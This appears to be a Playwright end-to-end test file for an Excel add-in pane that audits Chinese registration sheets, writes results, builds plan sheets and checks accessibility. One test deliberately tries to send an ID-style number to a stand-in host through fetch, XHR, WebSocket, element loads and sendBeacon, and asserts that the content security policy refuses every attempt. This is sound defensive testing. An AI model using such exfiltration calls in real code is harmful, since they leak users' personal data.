import AxeBuilder from "@axe-core/playwright";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { read, utils } from "@e965/xlsx";
import { generateCertificates } from "office-addin-dev-certs";
import type { Browser, Frame } from "playwright-core";
import { fillingsIn, joinFillings } from "../../src/core/questions/fill";
import { cellsToFill } from "../../src/core/results/cells-to-fill";
import { dayFromIso } from "../../src/core/time/day";
import type { RulePack } from "../../src/core/law/schema";
import { packById } from "../../src/packs";
import { EXCEL_API_FLOOR } from "../../src/workbook/excel/floor";
import { createHost } from "../../src/excel-simulator/host";
import { auditSheet, PLAN_SHEET, writePlan, writeResults } from "../../src/workbook/jobs";
import { openXlsx } from "../../src/xlsx/open";
import type { WorkbookPort } from "../../src/workbook/port";
import { xlsxPort } from "../../src/workbook/file/port";
import { PANE_FOLDER } from "../../tools/build-for-tests";
import { serve, type Served } from "../../tools/serve";
import { launch, listenForTrouble, screenshot, until } from "./support/browser";
import { unreadable } from "./support/contrast";
import {
  EXCEL_ORIGIN,
  openInExcel,
  OTHER_PAGES,
  resolverRules,
  STRANGER_ORIGIN,
  type ExcelWindow,
} from "./support/excel-on-the-web";
import { registrations, SHEET } from "./support/workbook";
import { compact } from "../support/layouts";

jest.setTimeout(90_000);

const AS_OF = "2026-03-01";
let folder: string;
let served: Served;
let browser: Browser;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "rending-tls-"));
  const [ca, cert, key] = ["ca.crt", "pane.crt", "pane.key"].map((name) => join(folder, name)) as [
    string,
    string,
    string,
  ];
  await generateCertificates(ca, cert, key, 2, ["rending.test"]);
  served = await serve(0, {
    folder: PANE_FOLDER,
    office: "own",
    frameAncestors: EXCEL_ORIGIN,
    extra: OTHER_PAGES,
    tls: { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") },
  });
  browser = await launch(resolverRules(served.port));
});

afterAll(async () => {
  await browser.close();
  await served.close();
  rmSync(folder, { recursive: true });
});

async function opened(bytes: Uint8Array, look: ExcelWindow = {}) {
  const book = openXlsx(bytes);
  const host = createHost(book, { apiLevel: EXCEL_API_FLOOR });
  const excel = await openInExcel(browser, host, look);
  const trouble = listenForTrouble(excel.page);
  await button(excel.pane, "审核").waitFor();
  return { ...excel, book, host, trouble };
}

function button(pane: Frame, name: string) {
  return pane.getByRole("button", { name, exact: true });
}

async function audit(pane: Frame): Promise<void> {
  await pane.getByLabel("审核日期").fill(AS_OF);
  await button(pane, "审核").click();
  await button(pane, "写入结果").waitFor();
}

async function clear(pane: Frame): Promise<void> {
  await button(pane, "清除标记").click();
  await pane.getByRole("dialog").or(pane.getByRole("alertdialog")).getByRole("button", { name: "清除标记" }).click();
}

/** Every value of a sheet of a saved workbook, as another reader sees it. */
function readBack(bytes: Uint8Array, sheet: string): unknown[][] {
  const found = read(bytes).Sheets[sheet];
  return found ? utils.sheet_to_json(found, { header: 1, defval: "" }) : [];
}

test("the whole job in Excel's own frame, from opening to reading the saved file back", async () => {
  const original = registrations();
  const { context, page, pane, host, book, trouble } = await opened(original);

  await audit(pane);
  for (const [verdict, count] of [
    ["不符合", 2],
    ["待核", 2],
    ["符合", 2],
  ] as const) {
    expect(await pane.getByRole("button", { name: new RegExp(`^${verdict} ?${count}$`) }).count()).toBe(1);
  }
  await screenshot(page, "excel-audited");

  await button(pane, "在表中选中第 5 行（李二）").click();
  await until(() => host.selection().range.row === 5);
  expect(host.selection().sheet).toBe(SHEET);

  await button(pane, "写入结果").click();
  await pane
    .getByText(/^已写入/)
    .first()
    .waitFor();
  await screenshot(page, "excel-written");
  const written = book.save();
  expect(readBack(written, SHEET)).toEqual(readBack(await writtenByFile(original), SHEET));
  expect(readBack(written, SHEET)[1]).toEqual(expect.arrayContaining(["核定等级", "收费(元)", "审核结论", "审核说明"]));

  await clear(pane);
  await pane
    .getByText(/^已清除/)
    .first()
    .waitFor();
  expect(readBack(book.save(), SHEET)).toEqual(readBack(original, SHEET));
  expect(book.sheet(SHEET)?.highlights()).toEqual([]);
  expect(book.sheet(SHEET)?.names()).toEqual([]);

  await pane.getByRole("tab", { name: "年度计划表" }).click();
  await button(pane, "生成计划表").click();
  await pane
    .getByText(/^已生成/)
    .first()
    .waitFor();
  await screenshot(page, "excel-plan");
  const plan = readBack(book.save(), PLAN_SHEET);
  expect(plan).toEqual(readBack(await plannedByFile(original), PLAN_SHEET));
  expect(plan.length).toBeGreaterThan(47);

  expect(host.statistics()).toMatchObject({ unimplemented: [], liveReferences: 0 });
  // A private window gives a frame of another site no storage; the client says so and goes on without.
  expect(trouble.filter((line) => !line.includes("'sessionStorage'"))).toEqual([]);
  await context.close();
});

test("the third part comes when it is asked for, under the same policy: comparing and checking itself", async () => {
  const { context, page, pane, trouble } = await opened(registrations());
  await audit(pane);
  await pane.getByRole("tab", { name: "更多" }).click();
  await pane.getByLabel("换成的公告").selectOption("shanghai-2026");
  await button(pane, "对比").click();
  await pane.getByRole("heading", { name: /^同一张表6人：/ }).waitFor();
  await screenshot(page, "excel-compared");
  await button(pane, "开始自检").click();
  await pane
    .getByText(/^自检全部通过：5 份公告/)
    .first()
    .waitFor();
  await screenshot(page, "excel-checked");
  expect(trouble.filter((line) => !line.includes("'sessionStorage'"))).toEqual([]);
  await context.close();
});

/** The same through the file's own door: every door writes the same. */
async function byFile(bytes: Uint8Array, work: (port: WorkbookPort, pack: RulePack) => Promise<unknown>) {
  const book = openXlsx(bytes);
  const pack = packById("jinan-2026");
  if (pack === undefined) throw new Error("The pack is not there.");
  await work(xlsxPort(book), pack);
  return book.save();
}

function writtenByFile(bytes: Uint8Array): Promise<Uint8Array> {
  return byFile(bytes, async (port, pack) => {
    const asOf = dayFromIso(AS_OF);
    if (asOf === null) throw new Error("The day is none.");
    const { audit, grid } = await auditSheet(port, SHEET, pack, { asOf });
    const toFill = cellsToFill(joinFillings([fillingsIn(grid, audit, pack, { asOf })]), grid);
    await writeResults(port, { audit, grid, toFill });
  });
}

function plannedByFile(bytes: Uint8Array): Promise<Uint8Array> {
  return byFile(bytes, (port, pack) => writePlan(port, pack, compact));
}

test("nothing that is read can leave the pane", async () => {
  const { context, page, pane } = await opened(registrations());
  const reached: string[] = [];
  await context.route("https://elsewhere.test/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  const outcomes = await pane.evaluate(async () => {
    const refused = (work: () => Promise<unknown>) =>
      work().then(
        () => "sent",
        () => "refused",
      );
    const loaded = (element: HTMLElement, into: HTMLElement) =>
      new Promise((resolve, reject) => {
        element.addEventListener("load", resolve);
        element.addEventListener("error", reject);
        document.addEventListener("securitypolicyviolation", reject, { once: true });
        into.append(element);
      });
    const address = "https://elsewhere.test/?id=370102199001011234";
    const make = <K extends keyof HTMLElementTagNameMap>(name: K, rest: Partial<HTMLElementTagNameMap[K]>) =>
      Object.assign(document.createElement(name), rest);
    return {
      fetch: await refused(() => fetch(address)),
      request: await refused(
        () =>
          new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.onload = resolve;
            request.onerror = reject;
            request.open("POST", address);
            request.send("370102199001011234");
          }),
      ),
      socket: await refused(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket("wss://elsewhere.test/");
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
      ),
      image: await refused(() => loaded(make("img", { src: address }), document.body)),
      script: await refused(() => loaded(make("script", { src: address }), document.head)),
      style: await refused(() => loaded(make("link", { rel: "stylesheet", href: address }), document.head)),
      frame: await refused(() => loaded(make("iframe", { src: address }), document.body)),
      code: await refused(async () => new Function("return 1")()),
    };
  });
  expect(new Set(Object.values(outcomes))).toEqual(new Set(["refused"]));
  expect(reached).toEqual([]);
  expect(
    await pane.evaluate(() => navigator.sendBeacon("https://elsewhere.test/", "370102199001011234")),
  ).toBeDefined();
  await page.waitForTimeout(300);
  expect(reached).toEqual([]);
  await context.close();
});

test("a stranger's page may not hold the pane", async () => {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const page = await context.newPage();
  const trouble = listenForTrouble(page);
  await page.goto(`${STRANGER_ORIGIN}/stranger.html`);
  await until(() => trouble.some((line) => line.includes("frame-ancestors")));
  await context.close();
});

test("in the high contrast of Windows everything that can be read is seen, and is clean", async () => {
  const { context, page, pane } = await opened(registrations(), {
    width: 320,
    forcedColors: "active",
    colorScheme: "dark",
  });
  await audit(pane);
  await pane.getByRole("button", { name: /^依据，第 5 行/ }).click();
  await screenshot(page, "pane-contrast");
  expect(await unreadable(pane)).toEqual([]);
  await pane.getByRole("tab", { name: "年度计划表" }).click();
  await screenshot(page, "pane-contrast-plan");
  expect(await unreadable(pane)).toEqual([]);
  await context.close();
});

test.each([
  [320, "light"],
  [350, "dark"],
] as const)("everything fits into %i pixels, and can be used by everybody, in %s colours", async (width, colours) => {
  const { context, page, pane } = await opened(registrations(), { width, colorScheme: colours });
  const overflow = () =>
    pane.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  const faults = async () =>
    (await new AxeBuilder({ page }).include("#pane").exclude("[data-tabster-dummy]").analyze()).violations.map(
      ({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(" ")).join(", ")}`,
    );
  expect(await overflow()).toBe(0);
  expect(await faults()).toEqual([]);
  await audit(pane);
  await pane.getByRole("button", { name: /^依据，第 5 行/ }).click();
  // The pointer stays where it clicked: what is under it must be read as well.
  expect(await overflow()).toBe(0);
  expect(await faults()).toEqual([]);
  await screenshot(page, `pane-${width}`);
  await page.setViewportSize({ width: 320, height: 1600 });
  await pane.getByRole("button", { name: /^试算/ }).click();
  await pane.getByRole("table", { name: "报几级会怎样" }).waitFor();
  await pane.getByRole("button", { name: "换个等级、日期或公告试" }).click();
  await pane.getByLabel("换个等级试").selectOption({ index: 1 });
  await button(pane, "不写").scrollIntoViewIfNeeded();
  expect(await overflow()).toBe(0);
  expect(await faults()).toEqual([]);
  await screenshot(page, `pane-tryout-${colours}`);
  for (const fold of [/^列的用途/, /^(?:要您定的|您定过的|您回答过|先补哪一项)/]) {
    await pane.getByRole("button", { name: fold }).click();
    expect(await overflow()).toBe(0);
    expect(await faults()).toEqual([]);
  }
  await screenshot(page, `pane-questions-${colours}`);
  await pane.getByRole("tab", { name: "年度计划表" }).click();
  await button(pane, "生成计划表").waitFor();
  expect(await overflow()).toBe(0);
  expect(await faults()).toEqual([]);
  await context.close();
});
